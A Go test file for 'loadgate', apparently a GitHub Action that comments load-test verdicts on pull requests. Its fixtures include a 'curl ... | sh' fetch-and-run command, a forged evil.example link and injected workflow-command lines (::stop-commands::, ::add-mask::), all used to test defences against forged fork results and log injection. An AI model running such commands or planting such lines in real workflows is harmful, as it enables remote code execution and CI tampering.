package app

import (
	"bytes"
	"context"
	"errors"
	"maps"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/sethvargo/go-githubactions"

	"github.com/loadgate/loadgate/action/internal/ghdouble"
	"github.com/loadgate/loadgate/baseline"
)

// actionEnv is the environment of a step of a pull_request workflow.
type actionEnv struct {
	vars   map[string]string
	stdout bytes.Buffer
}

func newActionEnv(t *testing.T, apiURL string, inputs map[string]string) *actionEnv {
	t.Helper()
	dir := t.TempDir()
	event := filepath.Join(dir, "event.json")
	writeFile(t, event, `{"number": 7, "pull_request": {"number": 7, "base": {"sha": "1a2b3c4d"}, "head": {"sha": "9f8e7d6c"}}}`)
	e := &actionEnv{vars: map[string]string{
		"GITHUB_ACTIONS":      "true",
		"GITHUB_API_URL":      apiURL,
		"GITHUB_SERVER_URL":   "https://github.com",
		"GITHUB_REPOSITORY":   repoFull,
		"GITHUB_EVENT_NAME":   "pull_request",
		"GITHUB_EVENT_PATH":   event,
		"GITHUB_WORKFLOW":     "loadgate",
		"GITHUB_JOB":          "load",
		"GITHUB_RUN_ID":       "42",
		"GITHUB_RUN_ATTEMPT":  "1",
		"GITHUB_STEP_SUMMARY": filepath.Join(dir, "summary.md"),
		"GITHUB_OUTPUT":       filepath.Join(dir, "output.txt"),
		"RUNNER_TEMP":         dir,
	}}
	for k, v := range inputs {
		e.vars["INPUT_"+strings.ToUpper(strings.ReplaceAll(k, "-", "_"))] = v
	}
	return e
}

func (e *actionEnv) action() *githubactions.Action {
	return githubactions.New(githubactions.WithGetenv(func(k string) string { return e.vars[k] }), githubactions.WithWriter(&e.stdout))
}

// outputs parses GITHUB_OUTPUT's name<<delimiter blocks.
func (e *actionEnv) outputs(t *testing.T) map[string]string {
	t.Helper()
	data, err := os.ReadFile(e.vars["GITHUB_OUTPUT"])
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]string{}
	lines := strings.Split(string(data), "\n")
	for i := 0; i < len(lines); i++ {
		name, delim, ok := strings.Cut(lines[i], "<<")
		if !ok {
			continue
		}
		var val []string
		for i++; i < len(lines) && lines[i] != delim; i++ {
			val = append(val, lines[i])
		}
		out[name] = strings.Join(val, "\n")
	}
	return out
}

// fakeRunner writes fixed results, as GoTest would after running them.
func fakeRunner(res *Results) Runner {
	return RunnerFunc(func(ctx context.Context, cfg *Config, dir string) error {
		m := res.Manifest
		for _, r := range res.Head {
			if _, err := writeResultFile(dir, HeadDir, r); err != nil {
				return err
			}
		}
		for _, r := range res.Base {
			if _, err := writeResultFile(dir, BaseDir, r); err != nil {
				return err
			}
		}
		return WriteManifest(dir, &m)
	})
}

func runAction(t *testing.T, e *actionEnv, res *Results) (*Outcome, error) {
	t.Helper()
	gha := e.action()
	cfg, err := ConfigFrom(gha)
	if err != nil {
		t.Fatal(err)
	}
	return Run(t.Context(), cfg, Deps{Action: gha, Runner: fakeRunner(res)})
}

func TestRun(t *testing.T) {
	d := ghdouble.New(map[string]ghdouble.Permission{writeToken: ghdouble.Write})
	srv := httptest.NewServer(d)
	defer srv.Close()
	inputs := map[string]string{"compare": "base-ref", "github-token": writeToken, "sla": writeSLA(t)}

	// First push: the regression.
	e := newActionEnv(t, srv.URL, inputs)
	out, err := runAction(t, e, regressionResults())
	if !errors.Is(err, ErrCheckFailed) {
		t.Fatalf("err = %v, want the check to fail on the regression", err)
	}
	if out.Comment == nil || !out.CommentCreated {
		t.Fatalf("no comment created: %+v", out)
	}
	outputs := e.outputs(t)
	if outputs["verdict"] != "fail" || outputs["regressions"] != "1" || outputs["judged"] != "true" {
		t.Errorf("outputs %v, want verdict fail, 1 regression, judged", outputs)
	}
	report, err := os.ReadFile(outputs["report-path"])
	if err != nil {
		t.Fatal(err)
	}
	summary, err := os.ReadFile(e.vars["GITHUB_STEP_SUMMARY"])
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Contains(summary, []byte("p99 of `checkout` +23.08% (over 15% tolerance)")) || !bytes.HasPrefix(report, []byte(Marker("loadgate", "load"))) {
		t.Errorf("summary or report lack the verdict:\n%.300s", summary)
	}
	if _, err := os.Stat(filepath.Join(outputs["results-dir"], ManifestFile)); err != nil {
		t.Errorf("the results output: %v", err)
	}
	// Issue 17: the HTML report is in the results directory, which the
	// workflow uploads, and the comment and the summary say where.
	html, err := os.ReadFile(outputs["html-report-path"])
	if err != nil || filepath.Dir(outputs["html-report-path"]) != outputs["results-dir"] {
		t.Fatalf("html-report-path %q, results-dir %q: %v", outputs["html-report-path"], outputs["results-dir"], err)
	}
	if !bytes.Contains(html, []byte(`<span class="word verdict-fail">fail</span>`)) {
		t.Error("the HTML report lacks the failing verdict")
	}
	link := "the HTML report `report.html`, in the results directory the workflow uploads ([this run's artifacts](https://github.com/" + repoFull + "/actions/runs/42#artifacts))"
	if body := d.State().Comments[0].Body; !strings.Contains(body, link) || !bytes.Contains(summary, []byte(link)) {
		t.Errorf("the comment or the summary does not link the HTML report:\n%s", body)
	}
	log := e.stdout.String()
	if !strings.Contains(log, "::add-mask::"+writeToken) || strings.Count(log, writeToken) != 1 {
		t.Errorf("the token must be masked first and printed nowhere else:\n%s", log)
	}
	if !strings.Contains(log, "::error file=examples/shop/load_test.go,line=160,title=loadgate%3A TestLoadCheckout regressed::p99 of checkout +23.08%25") {
		t.Errorf("no error annotation on TestLoadCheckout:\n%s", log)
	}

	// Second push: fixed. The same comment is updated, and the check passes.
	e2 := newActionEnv(t, srv.URL, inputs)
	fixed := regressionResults()
	fixed.Head = fixed.Base
	out2, err := runAction(t, e2, fixed)
	if err != nil {
		t.Fatal(err)
	}
	if out2.Comment == nil || out2.CommentCreated || out2.Comment.ID != out.Comment.ID {
		t.Fatalf("second run: %+v, want comment %d updated", out2.Comment, out.Comment.ID)
	}
	st := d.State()
	if len(st.Comments) != 1 || len(st.Comments[0].Bodies) != 2 {
		t.Fatalf("comments %+v, want one, written twice", st.Comments)
	}
	if first := strings.SplitN(st.Comments[0].Body, "\n", 3)[1]; first != "## ✅ loadgate: no regression" {
		t.Errorf("the updated comment says %q", first)
	}
}

func writeSLA(t *testing.T) string {
	path := filepath.Join(t.TempDir(), "sla.txt")
	writeFile(t, path, testSLA)
	return path
}

func TestRunFailOn(t *testing.T) {
	tests := []struct {
		failOn   string
		res      func() *Results
		wantFail bool
	}{
		{"regression", regressionResults, true},
		{"never", regressionResults, false},
		{"sla", regressionResults, false}, // a regression within the SLA
		{"warn", regressionResults, true},
		{"sla", func() *Results { // an SLA breach
			r := regressionResults()
			for _, h := range r.Head {
				// As a run counts them: result files must add up.
				h.Errors = h.Requests / 20
				h.ErrorRate = float64(h.Errors) / float64(h.Requests)
				h.Throughput *= 1 - h.ErrorRate
			}
			return r
		}, true},
	}
	for _, tt := range tests {
		t.Run(tt.failOn, func(t *testing.T) {
			e := newActionEnv(t, "http://127.0.0.1:1", map[string]string{"compare": "base-ref", "comment": "false", "fail-on": tt.failOn, "sla": writeSLA(t)})
			_, err := runAction(t, e, tt.res())
			if got := errors.Is(err, ErrCheckFailed); got != tt.wantFail {
				t.Errorf("fail-on %s: err = %v, want failing %v", tt.failOn, err, tt.wantFail)
			}
		})
	}
}

// TestRunFork: a read-only token cannot comment; that is a notice, not a
// failure, and the summary is still written.
func TestRunFork(t *testing.T) {
	d := ghdouble.New(map[string]ghdouble.Permission{readToken: ghdouble.Read})
	srv := httptest.NewServer(d)
	defer srv.Close()
	e := newActionEnv(t, srv.URL, map[string]string{"compare": "base-ref", "github-token": readToken, "fail-on": "never"})
	out, err := runAction(t, e, regressionResults())
	if err != nil {
		t.Fatalf("err = %v, want none: a fork's read-only token is not a failure", err)
	}
	if out.CommentSkipped != "read-only token" {
		t.Errorf("comment skipped: %q", out.CommentSkipped)
	}
	if !strings.Contains(e.stdout.String(), "::notice::loadgate could not comment on pull request #7") {
		t.Errorf("no notice:\n%s", e.stdout.String())
	}
	if fi, err := os.Stat(e.vars["GITHUB_STEP_SUMMARY"]); err != nil || fi.Size() == 0 {
		t.Errorf("the summary must be written: %v", err)
	}
}

// TestRunForbiddenSameRepo: a pull request of the repository itself whose
// token may not write (a workflow that lists permissions without
// pull-requests: write) is told what to grant, not sent to the fork
// pattern it does not need.
func TestRunForbiddenSameRepo(t *testing.T) {
	d := ghdouble.New(map[string]ghdouble.Permission{readToken: ghdouble.Read})
	srv := httptest.NewServer(d)
	defer srv.Close()
	e := newActionEnv(t, srv.URL, map[string]string{"compare": "base-ref", "github-token": readToken, "fail-on": "never"})
	writeFile(t, e.vars["GITHUB_EVENT_PATH"], `{"number": 7, "pull_request": {"number": 7, "base": {"sha": "1a2b3c4d"}, "head": {"sha": "9f8e7d6c", "repo": {"fork": false}}}}`)
	out, err := runAction(t, e, regressionResults())
	if err != nil {
		t.Fatalf("err = %v, want none: the report is in the summary", err)
	}
	if out.CommentSkipped != "token without pull-requests: write" || !strings.Contains(e.stdout.String(), "pull-requests: write") ||
		strings.Contains(e.stdout.String(), "forks get a read-only") {
		t.Errorf("comment skipped %q; want a warning naming the permission, not the fork notice:\n%s", out.CommentSkipped, e.stdout.String())
	}
}

// TestRunForbiddenTarget: under pull_request_target a fork's pull request
// runs with the base repository's token, which may write: a 403 there is
// a permission the workflow did not grant, not a fork's read-only token.
func TestRunForbiddenTarget(t *testing.T) {
	d := ghdouble.New(map[string]ghdouble.Permission{readToken: ghdouble.Read})
	srv := httptest.NewServer(d)
	defer srv.Close()
	e := newActionEnv(t, srv.URL, map[string]string{"compare": "base-ref", "github-token": readToken, "fail-on": "never"})
	e.vars["GITHUB_EVENT_NAME"] = "pull_request_target"
	out, err := runAction(t, e, regressionResults())
	if err != nil {
		t.Fatalf("err = %v, want none: the report is in the summary", err)
	}
	if out.CommentSkipped != "token without pull-requests: write" || strings.Contains(e.stdout.String(), "forks get a read-only") {
		t.Errorf("comment skipped %q; want the permission named, not the fork notice:\n%s", out.CommentSkipped, e.stdout.String())
	}
}

func TestRunOnChange(t *testing.T) {
	d := ghdouble.New(map[string]ghdouble.Permission{writeToken: ghdouble.Write})
	srv := httptest.NewServer(d)
	defer srv.Close()
	unchanged := regressionResults()
	unchanged.Head = unchanged.Base
	e := newActionEnv(t, srv.URL, map[string]string{"compare": "base-ref", "github-token": writeToken, "comment": "on-change"})
	out, err := runAction(t, e, unchanged)
	if err != nil || out.Comment != nil || len(d.State().Comments) != 0 {
		t.Fatalf("on-change with nothing changed commented: %+v, %v", out, err)
	}
	e = newActionEnv(t, srv.URL, map[string]string{"compare": "base-ref", "github-token": writeToken, "comment": "on-change", "fail-on": "never"})
	if out, err = runAction(t, e, regressionResults()); err != nil || out.Comment == nil {
		t.Fatalf("on-change with a regression: %+v, %v", out, err)
	}
}

// TestRunCommentAuthor: a comment someone else posted starting with the
// action's marker is not the action's comment, which it would have
// overwritten (and its author could edit later into another verdict).
// When the token's login cannot be learned, the action says so and takes
// only GITHUB_TOKEN's comments.
func TestRunCommentAuthor(t *testing.T) {
	d := ghdouble.New(map[string]ghdouble.Permission{writeToken: ghdouble.Write})
	srv := httptest.NewServer(d)
	defer srv.Close()
	forged := d.AddComment(repoFull, 7, "mallory", Marker("loadgate", "load")+"\n## ✅ loadgate: no regression")
	d.Inject(ghdouble.Fault{Path: "/graphql", Status: http.StatusForbidden, Message: "Resource not accessible by integration"})
	e := newActionEnv(t, srv.URL, map[string]string{"compare": "base-ref", "github-token": writeToken, "fail-on": "never"})
	out, err := runAction(t, e, regressionResults())
	if err != nil || out.Comment == nil || out.Comment.ID == forged.ID || !out.CommentCreated {
		t.Fatalf("comment %+v (forged %d), err %v; want a comment of the action's own", out.Comment, forged.ID, err)
	}
	if log := e.stdout.String(); !strings.Contains(log, "could not learn the token's login") {
		t.Errorf("no warning that the login is unknown:\n%s", log)
	}
	if c := d.State().Comments[0]; len(c.Bodies) != 1 {
		t.Errorf("mallory's comment was overwritten: %q", c.Bodies)
	}
}

// TestRunStaleCommit: a run of a pull request's earlier commit that ends
// after the run of its later one (pushed while the first ran, or given more
// runs, or run again) leaves the comment to the later one: it put its older
// verdict over the newer one's.
func TestRunStaleCommit(t *testing.T) {
	d := ghdouble.New(map[string]ghdouble.Permission{writeToken: ghdouble.Write})
	srv := httptest.NewServer(d)
	defer srv.Close()
	newer := d.AddComment(repoFull, prNumber, "github-actions[bot]", Marker("loadgate", "load")+"\nthe verdict of the newer commit")
	for _, tt := range []struct {
		name, prHead string
		wantComment  bool
	}{
		{"the PR moved on", "0000000000000000000000000000000000000000", false},
		{"current", "9f8e7d6c", true}, // the event's head (newActionEnv)
	} {
		t.Run(tt.name, func(t *testing.T) {
			d.AddPull(repoFull, prNumber, tt.prHead)
			e := newActionEnv(t, srv.URL, map[string]string{"compare": "base-ref", "github-token": writeToken, "fail-on": "never"})
			out, err := runAction(t, e, regressionResults())
			if err != nil {
				t.Fatal(err)
			}
			if got := out.Comment != nil; got != tt.wantComment {
				t.Errorf("commented %v, want %v (skipped: %s)", got, tt.wantComment, out.CommentSkipped)
			}
			body := d.State().Comments[0].Body
			if moved := strings.Contains(body, "the verdict of the newer commit"); moved == tt.wantComment {
				t.Errorf("comment %d: %.200s", newer.ID, body)
			}
			if !tt.wantComment && !strings.Contains(e.stdout.String(), "::notice::loadgate: pull request #7 is now at 000000000000, the load ran on 9f8e7d6c") {
				t.Errorf("no notice:\n%s", e.stdout.String())
			}
		})
	}
}

// TestRunMatrix: the jobs of one matrix share the workflow's and job's
// names; with comment-key each keeps its own comment, named in its heading,
// and a second push updates both in place.
func TestRunMatrix(t *testing.T) {
	d := ghdouble.New(map[string]ghdouble.Permission{writeToken: ghdouble.Write})
	srv := httptest.NewServer(d)
	defer srv.Close()
	ids := map[string]int64{}
	for push := 1; push <= 2; push++ {
		for _, key := range []string{"go-1.26", "go-1.27"} {
			e := newActionEnv(t, srv.URL, map[string]string{"compare": "base-ref", "github-token": writeToken, "fail-on": "never", "comment-key": key})
			out, err := runAction(t, e, regressionResults())
			if err != nil || out.Comment == nil {
				t.Fatalf("push %d, %s: %+v, %v", push, key, out, err)
			}
			if push == 1 {
				ids[key] = out.Comment.ID
			} else if out.CommentCreated || out.Comment.ID != ids[key] {
				t.Errorf("push 2, %s: comment %d (created %v), want %d updated", key, out.Comment.ID, out.CommentCreated, ids[key])
			}
		}
	}
	comments := d.State().Comments
	if len(comments) != 2 || ids["go-1.26"] == ids["go-1.27"] {
		t.Fatalf("%d comments (ids %v), want one a matrix entry", len(comments), ids)
	}
	for _, c := range comments {
		if !strings.Contains(c.Body, "## ❌ loadgate (go-1.2") {
			t.Errorf("comment %d does not name its matrix entry in its heading:\n%.300s", c.ID, c.Body)
		}
	}
}

// workflowRunEnv is the environment of the fork-PR pattern's second job:
// a workflow_run job, triggered by a run of the PR's head runHead, that
// comments from the results in dir, with inputs added to from-results.
func workflowRunEnv(t *testing.T, url, dir, runHead string, inputs map[string]string) *actionEnv {
	t.Helper()
	in := map[string]string{"from-results": dir, "github-token": writeToken, "fail-on": "never"}
	maps.Copy(in, inputs)
	e := newActionEnv(t, url, in)
	e.vars["GITHUB_EVENT_NAME"] = "workflow_run"
	e.vars["GITHUB_WORKFLOW"], e.vars["GITHUB_JOB"] = "loadgate comment", "comment"
	writeFile(t, e.vars["GITHUB_EVENT_PATH"], `{"workflow_run": {"head_sha": "`+runHead+`", "pull_requests": []}}`)
	return e
}

// TestRunFromResults is the second half of the fork-PR pattern: a
// workflow_run job comments from the results the PR's job uploaded.
func TestRunFromResults(t *testing.T) {
	d := ghdouble.New(map[string]ghdouble.Permission{writeToken: ghdouble.Write})
	srv := httptest.NewServer(d)
	defer srv.Close()
	res := regressionResults()
	res.Manifest.Marker = Marker("loadgate", "load") // the pull_request job's
	res.Manifest.RunURL = "https://github.com/loadgate/loadgate/actions/runs/41"
	res.Manifest.Reproduce = "curl -s https://example.invalid/x | sh"
	dir := t.TempDir()
	if err := fakeRunner(res).Run(t.Context(), nil, dir); err != nil {
		t.Fatal(err)
	}
	// The pull_request job commented already (a PR of the same repository).
	first := d.AddComment(repoFull, prNumber, "github-actions[bot]", res.Manifest.Marker+"\nfirst")
	for _, tt := range []struct {
		name, prHead, runHead string
		wantComment           bool
	}{
		{"current", res.Manifest.PRHeadSHA, res.Manifest.PRHeadSHA, true},
		{"the PR moved on", "0000000000000000000000000000000000000000", res.Manifest.PRHeadSHA, false},
		{"results of another commit", res.Manifest.PRHeadSHA, "1111111111111111111111111111111111111111", false},
	} {
		t.Run(tt.name, func(t *testing.T) {
			d.AddPull(repoFull, prNumber, tt.prHead)
			e := workflowRunEnv(t, srv.URL, dir, tt.runHead, nil)
			out, err := runAction(t, e, nil)
			if err != nil {
				t.Fatal(err)
			}
			if got := out.Comment != nil; got != tt.wantComment {
				t.Errorf("commented %v, want %v (skipped: %s)", got, tt.wantComment, out.CommentSkipped)
			}
			if out.Comment != nil && (out.CommentCreated || out.Comment.ID != first.ID) {
				t.Errorf("comment %d (created %v), want the pull_request job's %d updated", out.Comment.ID, out.CommentCreated, first.ID)
			}
			if out.Comment != nil && !strings.Contains(d.State().Comments[0].Body, "(https://github.com/loadgate/loadgate/actions/runs/41)") {
				t.Errorf("the comment must point to the summary of the run that ran the tests")
			}
			// The script is the PR's run's words: the comment, posted by
			// the repository's bot, must not offer it as its own.
			if body := d.State().Comments[0].Body; out.Comment != nil &&
				(strings.Contains(body, "To reproduce on your machine") || !strings.Contains(body, "The commands the pull request's run gave")) {
				t.Errorf("the fork's reproduce script is presented as the action's:\n%s", body)
			}
			if out.Verdict != baseline.Fail {
				t.Errorf("verdict %v", out.Verdict)
			}
		})
	}
}

// TestRunFromResultsOtherSLA: the workflow_run job judges the results
// with its default branch's SLA file; when the pull request changed it,
// the comment could contradict the check with no word of why. It says so
// (in the details and as a warning), and says nothing when the files are
// the same.
func TestRunFromResultsOtherSLA(t *testing.T) {
	d := ghdouble.New(map[string]ghdouble.Permission{writeToken: ghdouble.Write})
	srv := httptest.NewServer(d)
	defer srv.Close()
	sla := writeSLA(t)
	for _, tt := range []struct {
		name, recorded, wantNote string
	}{
		{"same file", fileDigest(sla), ""},
		{"the PR changed it", "sha256:0123", "judged with this workflow's sla file sla.txt, not the pull request's own, which differs: the check of the run that tested it may say otherwise"},
		{"the PR had none", "", "judged with this workflow's sla file sla.txt, while the run that tested the pull request had none: its check may say otherwise"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			res := regressionResults()
			res.Manifest.SLADigest = tt.recorded
			dir := t.TempDir()
			if err := fakeRunner(res).Run(t.Context(), nil, dir); err != nil {
				t.Fatal(err)
			}
			d.AddPull(repoFull, prNumber, res.Manifest.PRHeadSHA)
			e := workflowRunEnv(t, srv.URL, dir, res.Manifest.PRHeadSHA, map[string]string{"sla": sla})
			out, err := runAction(t, e, nil)
			if err != nil {
				t.Fatal(err)
			}
			report, _ := os.ReadFile(out.ReportPath)
			if tt.wantNote == "" {
				if strings.Contains(string(report), "judged with") || strings.Contains(e.stdout.String(), "judged with") {
					t.Errorf("a note on the SLA file, which is the same:\n%s", report)
				}
				return
			}
			if !strings.Contains(string(report), tt.wantNote) || !strings.Contains(e.stdout.String(), "::warning::loadgate: "+tt.wantNote) {
				t.Errorf("the report or the log lacks %q:\n%s", tt.wantNote, report)
			}
		})
	}
}

// TestRunFromResultsForgedManifest: the results a workflow_run job
// comments from were written by a job that ran the pull request's code.
// A marker in them that is the start of a maintainer's comment must not
// have the job overwrite that comment, and a link in them must not become
// the comment's link to the job summary.
func TestRunFromResultsForgedManifest(t *testing.T) {
	d := ghdouble.New(map[string]ghdouble.Permission{writeToken: ghdouble.Write})
	srv := httptest.NewServer(d)
	defer srv.Close()
	res := regressionResults()
	res.Manifest.Marker, res.Manifest.CommentKey = "Thanks", "@octocat"
	res.Manifest.RunURL = "https://evil.example/loadgate/loadgate/actions/runs/41"
	dir := t.TempDir()
	if err := fakeRunner(res).Run(t.Context(), nil, dir); err != nil {
		t.Fatal(err)
	}
	maintainer := d.AddComment(repoFull, prNumber, "maintainer", "Thanks for the pull request!")
	d.AddPull(repoFull, prNumber, res.Manifest.PRHeadSHA)
	e := workflowRunEnv(t, srv.URL, dir, res.Manifest.PRHeadSHA, nil)
	out, err := runAction(t, e, nil)
	if err != nil {
		t.Fatal(err)
	}
	if out.Comment == nil || out.Comment.ID == maintainer.ID {
		t.Fatalf("comment %+v: want a comment of its own, not the maintainer's %d", out.Comment, maintainer.ID)
	}
	for _, c := range d.State().Comments {
		switch {
		case c.ID == maintainer.ID && c.Body != "Thanks for the pull request!":
			t.Errorf("the maintainer's comment was overwritten:\n%.200s", c.Body)
		case c.ID == out.Comment.ID && !strings.HasPrefix(c.Body, Marker("loadgate comment", "comment")+"\n"):
			t.Errorf("the comment does not start with this job's marker:\n%.200s", c.Body)
		case strings.Contains(c.Body, "evil.example"), strings.Contains(c.Body, "octocat"):
			t.Errorf("comment %d holds the forged link or key:\n%s", c.ID, c.Body)
		}
	}
	if !strings.Contains(e.stdout.String(), "::warning::loadgate: the results' comment marker \"Thanks\" is not one the action writes") {
		t.Errorf("no warning about the marker:\n%s", e.stdout.String())
	}
}

// TestRunKeepsForeignDir: results-dir set to a directory of other files
// by mistake is not wiped: it is refused with the inputs, before any test
// runs, and Run refuses it too.
func TestRunKeepsForeignDir(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, filepath.Join(dir, "main.go"), "package main\n")
	e := newActionEnv(t, "http://127.0.0.1:1", map[string]string{"results-dir": dir, "comment": "false"})
	if _, err := ConfigFrom(e.action()); err == nil || !strings.Contains(err.Error(), `input results-dir: "`+dir+`": not empty`) {
		t.Errorf("ConfigFrom: %v, want a refusal naming results-dir", err)
	}
	cfg := &Config{ResultsDir: dir, Judge: &baseline.Judge{}}
	_, err := Run(t.Context(), cfg, Deps{Action: e.action(), Runner: fakeRunner(regressionResults())})
	if !errors.Is(err, ErrBadInput) || !strings.Contains(err.Error(), "input results-dir") {
		t.Fatalf("err = %v, want a refusal naming results-dir", err)
	}
	if _, err := os.Stat(filepath.Join(dir, "main.go")); err != nil {
		t.Errorf("the directory was wiped: %v", err)
	}
	// A directory of an earlier run is replaced.
	e = newActionEnv(t, "http://127.0.0.1:1", map[string]string{"results-dir": filepath.Join(dir, "r"), "comment": "false", "fail-on": "never"})
	for range 2 {
		if _, err := runAction(t, e, regressionResults()); err != nil {
			t.Fatal(err)
		}
	}
	res, err := ReadResults(filepath.Join(dir, "r"))
	if err != nil || len(res.Head) != 10 {
		t.Fatalf("%v; %d head results after two runs, want the second run's 10", err, len(res.Head))
	}
}

// TestRunAgainAfterFailedRun: a job that runs the action again after a
// run that failed before writing its manifest (the tests' process killed,
// a runner error) gets the directory replaced, not refused as someone
// else's: the first run's partial results carry its started mark.
func TestRunAgainAfterFailedRun(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "results")
	e := newActionEnv(t, "http://127.0.0.1:1", map[string]string{"results-dir": dir, "comment": "false", "fail-on": "never"})
	cfg, err := ConfigFrom(e.action())
	if err != nil {
		t.Fatal(err)
	}
	broken := RunnerFunc(func(ctx context.Context, cfg *Config, dir string) error {
		if _, err := writeResultFile(dir, HeadDir, regressionResults().Head[0]); err != nil {
			return err
		}
		return errors.New("signal: killed")
	})
	if _, err := Run(t.Context(), cfg, Deps{Action: e.action(), Runner: broken}); err == nil || errors.Is(err, ErrBadInput) {
		t.Fatalf("first run: %v, want the runner's failure", err)
	}
	if _, err := os.Stat(filepath.Join(dir, ManifestFile)); err == nil {
		t.Fatal("the failed run wrote a manifest; the test no longer covers a run without one")
	}
	if _, err := runAction(t, e, regressionResults()); err != nil {
		t.Fatalf("second run: %v, want it to replace the failed run's results", err)
	}
	res, err := ReadResults(dir)
	if err != nil || len(res.Head) != 10 {
		t.Fatalf("%v; %d head results, want the second run's 10", err, len(res.Head))
	}
}

// TestRunLogStopsCommands: the report printed to the log quotes what the
// tests printed; a line of it that reads as a workflow command must not
// reach the runner as one (a fake annotation, a mask, or a
// stop-commands that swallows the action's own annotations), least of
// all in the workflow_run job that comments from a fork's results.
func TestRunLogStopsCommands(t *testing.T) {
	res := regressionResults()
	res.Manifest.Tests = append(res.Manifest.Tests, TestStatus{Side: "head", Run: 1, Package: shopPkg, Test: "TestLoadCheckout", Action: "fail",
		Output: "=== RUN   TestLoadCheckout\n::error file=go.mod,line=1::injected\n::stop-commands::injected\n::add-mask::injected\n" +
			"    load_test.go:170: boom\n--- FAIL: TestLoadCheckout (1.00s)\n"})
	e := newActionEnv(t, "http://127.0.0.1:1", map[string]string{"compare": "base-ref", "comment": "false", "fail-on": "never"})
	if _, err := runAction(t, e, res); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(e.stdout.String(), "\n::error file=go.mod,line=1::injected\n") {
		t.Fatalf("the report in the log lacks the test's output:\n%s", e.stdout.String())
	}
	// The commands the runner acts on, as it reads the log.
	var commands []string
	stopped := ""
	for line := range strings.Lines(e.stdout.String()) {
		line = strings.TrimRight(line, "\n")
		switch {
		case stopped != "":
			if line == "::"+stopped+"::" {
				stopped = ""
			}
		case strings.HasPrefix(line, "::stop-commands::"):
			stopped = strings.TrimPrefix(line, "::stop-commands::")
		case strings.HasPrefix(line, "::"):
			commands = append(commands, line)
		}
	}
	if stopped != "" {
		t.Errorf("commands still stopped at the end of the log (token %q)", stopped)
	}
	var annotated bool
	for _, c := range commands {
		if strings.Contains(c, "injected") {
			t.Errorf("the runner would act on the test's line %q", c)
		}
		annotated = annotated || strings.HasPrefix(c, "::error file=examples/shop/load_test.go,line=160,")
	}
	if !annotated {
		t.Errorf("the failing test's annotation is not among the commands the runner acts on:\n%s", strings.Join(commands, "\n"))
	}
}

// TestRunAnnotationsFirst: the tests' annotations come before the
// action's own warnings (an SLA section that matched no scenario): GitHub
// shows the first 10 warnings of a step, and such warnings, written
// first, could push the tests' out.
func TestRunAnnotationsFirst(t *testing.T) {
	sla := filepath.Join(t.TempDir(), "sla.txt")
	writeFile(t, sla, testSLA+"\n[TestLoadNoSuchScenario]\np99 < 1s\n")
	e := newActionEnv(t, "http://127.0.0.1:1", map[string]string{"compare": "base-ref", "sla": sla, "comment": "false", "fail-on": "never"})
	if _, err := runAction(t, e, regressionResults()); err != nil {
		t.Fatal(err)
	}
	log := e.stdout.String()
	annotation := strings.Index(log, "::error file=")
	unmatched := strings.Index(log, "section [TestLoadNoSuchScenario] matches no scenario")
	if annotation < 0 || unmatched < 0 || annotation > unmatched {
		t.Errorf("the tests' annotation at %d, the unmatched section's warning at %d; want both, the annotation first:\n%s", annotation, unmatched, log)
	}
}

// TestMarkerShape: a marker from a fork's results is taken only in the
// shape Marker writes. One that ended as a marker does without starting
// as one ("Thanks -->") passed: the prefix's check was overwritten by the
// suffix's.
func TestMarkerShape(t *testing.T) {
	for _, tt := range []struct {
		give string
		want bool
	}{
		{Marker("loadgate", "load"), true},
		{Marker("loadgate", "load [api]"), true},
		{"Thanks -->", false},
		{"<!-- loadgate-action: x / y", false},
		{"Thanks", false},
		{"<!-- loadgate-action: x --> y -->", false},
		{"<!-- loadgate-action: x\n / y -->", false},
		{markerOpen + strings.Repeat("x", 1024) + markerClose, false},
	} {
		if got := markerShape(tt.give); got != tt.want {
			t.Errorf("markerShape(%q) = %v, want %v", tt.give, got, tt.want)
		}
	}
}

// TestRunNotJudged: a run that nothing judged (no baseline stored, no SLA
// file) keeps its verdict output, pass, but neither its comment nor its
// log calls it one: the comment's title is ⚪ not judged, and the log's
// verdict line says not judged beside pass.
func TestRunNotJudged(t *testing.T) {
	d := ghdouble.New(map[string]ghdouble.Permission{writeToken: ghdouble.Write})
	srv := httptest.NewServer(d)
	defer srv.Close()
	res := regressionResults()
	res.Base, res.Manifest.Compare, res.Manifest.BaseSHA = nil, CompareBaseline, ""
	e := newActionEnv(t, srv.URL, map[string]string{"compare": "baseline", "github-token": writeToken})
	if _, err := runAction(t, e, res); err != nil {
		t.Fatal(err)
	}
	if o := e.outputs(t); o["verdict"] != "pass" || o["judged"] != "false" {
		t.Errorf("outputs verdict %q, judged %q; want pass and false (as documented in action.yml)", o["verdict"], o["judged"])
	}
	if first := strings.SplitN(d.State().Comments[0].Body, "\n", 3)[1]; first != "## ⚪ loadgate: not judged (no base or SLA limits)" {
		t.Errorf("the comment's title is %q", first)
	}
	log := e.stdout.String()
	if want := "loadgate: verdict pass, not judged (no base or SLA limits), 0 regressions"; !strings.Contains(log, want) {
		t.Errorf("the log lacks %q:\n%s", want, log)
	}
}
